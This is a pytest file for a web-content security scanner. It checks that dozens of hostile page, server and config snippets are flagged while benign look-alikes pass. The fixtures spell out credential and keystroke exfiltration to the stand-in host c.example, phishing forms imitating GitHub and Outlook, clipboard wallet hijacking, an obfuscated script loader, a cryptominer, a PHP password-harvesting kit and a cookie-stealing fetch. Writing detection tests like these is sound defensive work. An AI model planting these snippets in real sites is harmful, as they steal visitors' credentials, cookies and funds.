"""What pages take from those who visit them."""

import json

import pytest

from modelscan_plus.core.finding import Severity
from tests.samples import inspect, inspect_tree

URL = "https://c.example"
FIELDS = "<input name=user><input id=pw name=pw type=password>"
WORKER = "self.addEventListener('fetch', e => {{ {} e.respondWith(fetch(e.request)); }});"


def denied(name: str, text: str) -> bool:
    return any(found.severity.rank >= Severity.HIGH.rank for found in inspect(text.encode(), name).findings)


HOSTILE = [
    f"<input id=k type=password><script>document.getElementById('k').addEventListener('change',e=>navigator.sendBeacon('{URL}',e.target.value))</script>",
    f"<input id=k type=password><script>$('#k').on('blur',function(){{$.post('{URL}',{{v:this.value}})}})</script>",
    f"<input type=password onchange=\"navigator.sendBeacon('{URL}',this.value)\">",
    f"<form action='{URL}/in' method=post>{FIELDS}<button>Sign in</button></form>",
    f"<iframe srcdoc=\"&lt;form action='{URL}'&gt;&lt;input type='password'&gt;&lt;/form&gt;\"></iframe>",
    f"<title>GitHub</title><form id=f>{FIELDS}</form><script>fetch('{URL}',{{method:'POST',body:new FormData(f)}}).then(r=>go(r))</script>",
    f"{FIELDS}<script>const p=document.getElementById('pw').value;\nfetch('{URL}',{{method:'POST',body:p}}).then(()=>{{location='https://github.com'}})</script>",
    f"<h1>Restore</h1><p>Enter your recovery phrase</p><textarea id=s></textarea><script>navigator.sendBeacon('{URL}',s.value)</script>",
    f"<input id=t placeholder='hf_...'><script>const t=document.getElementById('t').value;const r=await fetch('{URL}',{{body:t}});</script>",
    f"<script>let b='';window.addEventListener('keyup',e=>{{b+=e.key;if(b.length>20)fetch('{URL}',{{body:b}});}})</script>",
    f"<script>const h=(e)=>{{navigator.sendBeacon('{URL}',e.target.value)}};\ndocument.addEventListener('change',h,true);</script>",
    f"<script>const f=window.fetch;window.fetch=async(u,o)=>{{f('{URL}',{{body:o.headers}});return f(u,o)}};</script>",
    f"<title>Outlook</title><form id=f>{FIELDS}</form><script>$.ajax({{url:'{URL}',type:'POST',data:$('#f').serialize()}})</script>",
    f"<h1>Sign in to GitHub</h1><form id=f>{FIELDS}</form><script>emailjs.sendForm('s','t',f,{{p:pw.value}})</script>",
    f"<script>document.onkeypress=e=>{{x.open('GET','{URL}?k='+e.key);x.send()}}</script>",
    f"<script>setInterval(()=>navigator.clipboard.readText().then(t=>fetch('{URL}',{{body:t}})),99)</script>",
    f"<script>document.querySelectorAll('input').forEach(i=>i.addEventListener('input',e=>navigator.sendBeacon('{URL}',e.target.value)))</script>",
    f"<script>for(const k of Object.keys(localStorage))navigator.sendBeacon('{URL}',k+localStorage[k]);</script>",
    f"<script>const r=await fetch('http://127.0.0.1:11434/api/tags');const l=await r.text();fetch('{URL}',{{body:l}});</script>",
    "<script>const c=new Contract(t,abi,s);await window.ethereum.request({});await c.approve(S,ethers.constants.MaxUint256);</script>",
    "<script>addEventListener('copy',e=>{e.clipboardData.setData('text/plain','0x00000000000000000000000000000000DeaDBeef')})</script>",
    "<script>navigator.clipboard.writeText('mshta https://v.example/a.hta')</script>",
    "<iframe src='https://a.example/x' style='position:absolute;opacity:0'></iframe>",
    "<meta http-equiv=refresh content='0; url=https://huggingface-login.example/signin'>",
    "<a href='search-ms:query=x&crumb=location:\\\\203.0.113.2\\s'>open</a>",
    "<script>var a=['aHR0cHM6Ly9zLmV4YW1wbGUvYS5qcw=='];s.src=atob(a[0]);document.head.append(s)</script>",
    "<script>const n=new WebSocket(p);new Worker('w.js');CryptoNight.start()</script>",
    "<style>" + "".join(f"input[value^={c}]{{background:url({URL}/{c})}}" for c in "abc") + "</style>",
    "<script>fetch(u).then(r=>r.json()).then(c=>{(0,eval)(atob(c.i))})</script>",
    "<gradio-lite>\nimport os\nexec(__import__('urllib.request').request.urlopen('https://c.example/a').read())\n</gradio-lite>",
]
HONEST = [
    f"<input id=q type=search><script>document.getElementById('q').addEventListener('change',e=>navigator.sendBeacon('{URL}',e.target.value))</script>",
    "<input id=k type=password><script>document.getElementById('k').addEventListener('change',e=>localStorage.setItem('k',e.target.value))</script>",
    f"<form action='/login' method=post>{FIELDS}</form>",
    f"<form action='https://github.com/session' method=post>{FIELDS}</form>",
    f"<form action='{URL}/subscribe' method=post><input type=email name=e></form>",
    f"{FIELDS}<script>const r=await fetch('{URL}/login',{{body:JSON.stringify({{p:pw.value}})}});use(await r.json());</script>",
    "<input type=password id=k placeholder='OpenAI key'><script>const r=await fetch('https://api.openai.com/v1/x',{headers:{Authorization:'Bearer '+k.value}});</script>",
    f"<script>document.addEventListener('keydown',e=>{{if(e.key==='Enter'){{fetch('{URL}/ask',{{body:q}}).then(r=>show(r))}}}})</script>",
    "<form id=f><input type=email id=em></form><script>emailjs.sendForm('s','t',f)</script>",
    f"<script>window.addEventListener('error',e=>navigator.sendBeacon('{URL}',e.message))</script>",
    f"<script>box.addEventListener('input',e=>{{fetch('{URL}/complete',{{body:e.target.value}}).then(r=>show(r))}})</script>",
    "<script>const f=window.fetch;window.fetch=async(u,o)=>{show(u);return f(u,o)};</script>",
    "<script>self.addEventListener('fetch',e=>{e.respondWith(caches.match(e.request).then(r=>r||fetch(e.request)))});</script>",
    "<script>const r=await fetch('http://127.0.0.1:11434/api/tags');show(await r.json());</script>",
    "<script>const b=await p.getBalance(a);await window.ethereum.request({method:'eth_requestAccounts'});show(b)</script>",
    "<script>navigator.clipboard.writeText('pip install mymodel')</script>",
    "<iframe src='https://www.googletagmanager.com/ns.html?id=G' height='0' width='0' style='visibility:hidden'></iframe>",
    "<iframe src='https://a.example/demo' width='100%' height='900'></iframe>",
    "<meta http-equiv=refresh content='0; url=https://huggingface.co/login'>",
    "<script>s.src='https://cdn.example/a.js';document.head.append(s)</script>",
    "<style>input[type=password]{background:url(https://cdn.example/lock.svg)}</style>",
    "<gradio-lite>\nimport gradio as gr\ngr.Interface(lambda x: x, 'text', 'text').launch()\n</gradio-lite>",
]


@pytest.mark.parametrize("page", HOSTILE)
def test_pages_that_take_from_their_visitors(page: str) -> None:
    assert denied("index.html", f"<!doctype html><html><body>{page}</body></html>")


@pytest.mark.parametrize("page", HONEST)
def test_pages_that_ask_for_what_they_need(page: str) -> None:
    assert not denied("index.html", f"<!doctype html><html><body>{page}</body></html>")


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (WORKER.format(f"const c=e.request.clone();c.text().then(t=>fetch('{URL}',{{method:'POST',body:t}}));"), True),
        (WORKER.format(""), False),
        ("app.use(express.static('/'))", True),
        ("app.use(express.static('public'))", False),
        ("app.get('/e',(req,res)=>res.json(process.env))", True),
        ("app.get('/e',(req,res)=>res.json({port:process.env.PORT}))", False),
        ("app.get('/f',(req,res)=>res.sendFile(req.query.p))", True),
        ("app.get('/f',(req,res)=>res.sendFile(path.join(root,path.basename(req.query.p))))", False),
        ("const {t}=await req.json();\nreturn new Function('d',t)(d);", True),
        ("const {t}=await req.json();\nreturn render(t);", False),
        (
            "app.post('/l',(req,res)=>{fs.appendFileSync('l.txt',req.body.password);res.redirect('https://github.com/login')})",
            True,
        ),
        ("app.post('/l',(req,res)=>{if(ok(req.body.password))res.redirect('/')})", False),
        ("await transporter.sendMail({to,bcc:'a@c.example',text})", True),
        ("await transporter.sendMail({to,bcc:list,text})", False),
    ],
)
def test_scripts_of_servers_and_workers(code: str, expected: bool) -> None:
    assert denied("server.js", code) is expected


def test_pages_in_texts_of_programs() -> None:
    script = f"<script>document.addEventListener('keyup',e=>fetch('{URL}',{{body:e.key}}))</script>"
    assert denied("app.py", f"import gradio as gr\nwith gr.Blocks(head={script!r}) as demo:\n    pass\n")
    assert not denied(
        "app.py", "import gradio as gr\nwith gr.Blocks(head='<script>document.title=1</script>') as demo:\n    pass\n"
    )
    cell = {
        "cell_type": "code",
        "metadata": {},
        "outputs": [],
        "source": f"HTML('''<form action=\"{URL}\">{FIELDS}</form>''')",
    }
    book = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    assert denied("a.ipynb", json.dumps(book))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("server { location /d/ { alias /; autoindex on; } }", True),
        ("server { location / { root /usr/share/nginx/html; } }", False),
    ],
)
def test_servers_that_show_the_whole_disk(text: str, expected: bool) -> None:
    assert denied("nginx.conf", text) is expected


def test_scripts_that_a_card_has_pasted() -> None:
    card = "# Demo\n\n```js\nfetch('https://c.example/?c='+document.cookie)\n```\n"
    assert denied("README.md", card)
    assert not denied("README.md", card.replace("document.cookie", "'x'"))


PAGE = "<!doctype html><html><body><input id=em><input id=pw type=password><script type=module src=a.js></script></body></html>"
SENDS = "export function report(o) {{\n  return fetch('{}', {{ method: 'POST', body: JSON.stringify(o) }});\n}}\n"
CALLS = "import {{ report }} from './lib/m.js';\n{}report({{ p: document.getElementById('{}').value }});\n"


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({"a.js": f"const p = document.getElementById('pw').value;\nfetch('{URL}', {{ body: p }});\n"}, True),
        ({"a.js": f"const p = document.getElementById('em').value;\nfetch('{URL}', {{ body: p }});\n"}, False),
        (
            {
                "a.js": f"const p = document.getElementById('pw').value;\nconst r = await fetch('{URL}', {{ body: p }});\n"
            },
            False,
        ),
        ({"a.js": "const p = document.getElementById('pw').value;\nfetch('/login', { body: p });\n"}, False),
        ({"a.js": CALLS.format("", "pw"), "lib/m.js": SENDS.format(URL)}, True),
        ({"a.js": CALLS.format("", "em"), "lib/m.js": SENDS.format(URL)}, False),
        ({"a.js": CALLS.format("const r = await ", "pw"), "lib/m.js": SENDS.format(URL)}, False),
        ({"a.js": CALLS.format("", "pw"), "lib/m.js": SENDS.format("/collect")}, False),
    ],
)
def test_pages_whose_files_give_away_what_they_ask_for_together(files: dict[str, str], expected: bool) -> None:
    found = inspect_tree({path: text.encode() for path, text in {"index.html": PAGE, **files}.items()})
    assert any(each.severity.rank >= Severity.HIGH.rank for each in found) is expected


def test_kits_that_keep_a_password_and_lead_on() -> None:
    kit = "<?php $p=$_POST['password'];\nfile_put_contents('l.txt',$p);\nheader('Location: {}');"
    assert denied("index.php", kit.format("https://www.office.com"))
    assert not denied("index.php", kit.format("/account"))
